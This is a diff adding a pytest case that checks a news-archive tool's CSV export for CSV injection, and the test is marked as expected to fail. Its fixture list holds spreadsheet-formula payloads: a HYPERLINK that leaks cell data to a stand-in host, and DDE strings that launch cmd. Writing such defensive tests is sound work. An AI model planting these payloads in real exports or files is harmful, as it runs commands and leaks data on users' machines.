@@ -366,3 +366,28 @@ def test_damaged_store_pages_say_so_instead_of_500(tmp_path: Path) -> None:
                 "/api/timeline", "/api/places"] + [f"/api/articles/{i}" for i in range(1, 201)]
         codes = {u: c.get(u).status_code for u in urls}
     assert not [u for u, s in codes.items() if s == 500], codes
+
+
+# --- hostile text leaving through export -----------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+@pytest.mark.xfail(strict=False, reason="export/ (export helper): CSV cells starting with = + @ are written as they "
+                                        "are, so a spreadsheet runs them as formulas (CSV injection)")
+def test_csv_export_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
+    import csv
+
+    from newsgraph.cli import main
+
+    db = tmp_path / "f.db"
+    conn = connect(db)
+    store_articles(conn, [_article(i, f) for i, f in enumerate(FORMULAS)])
+    conn.close()
+    assert main(["export", "--format", "csv", "--db", str(db), "--out", str(tmp_path / "out")]) == 0
+    risky = []
+    for f in (tmp_path / "out").glob("*.csv"):
+        with open(f, newline="", encoding="utf-8") as fh:
+            for row in csv.reader(fh):
+                risky += [f"{f.name}: {cell[:30]}" for cell in row if cell[:1] in "=+@" and not cell[1:2].isdigit()]
+    assert risky == []
